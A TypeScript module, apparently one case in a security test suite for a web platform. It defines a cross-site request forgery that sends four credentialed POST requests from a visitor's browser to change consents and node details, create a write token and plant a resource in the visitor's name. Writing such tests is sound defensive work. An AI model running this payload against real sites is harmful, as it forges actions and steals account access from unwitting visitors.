import type { ThemeAttack } from '../../attack.ts';

export const attack: ThemeAttack = {
  kind: 'theme',
  gain: 'calls that browsers send without asking first change something in the visitor’s name',
  instead: 'nothing of the visitor’s has changed',
  expected: { sent: 4 },
  async run({ platform, otherDomain, otherNodeId }, { page }) {
    const calls: [path: string, body: object][] = [
      ['/v2/passport/siteConsents', { nodeDomain: otherDomain }],
      ['/v2/nodes/setNodeInfo', { nodeId: otherNodeId, nodeTitle: 'planted' }],
      ['/v2/users/current/tokens', { name: 'planted', scopes: ['write'], password: 'guess1234' }],
      ['/v2/resources', { name: 'planted', resourceType: ['markdown'] }],
    ];
    for (const [path, body] of calls) {
      const init: RequestInit = { method: 'POST', mode: 'no-cors', credentials: 'include' };
      await page.fetch(platform + path, { ...init, body: JSON.stringify(body) }).catch(() => undefined);
    }
    return { sent: calls.length };
  },
};
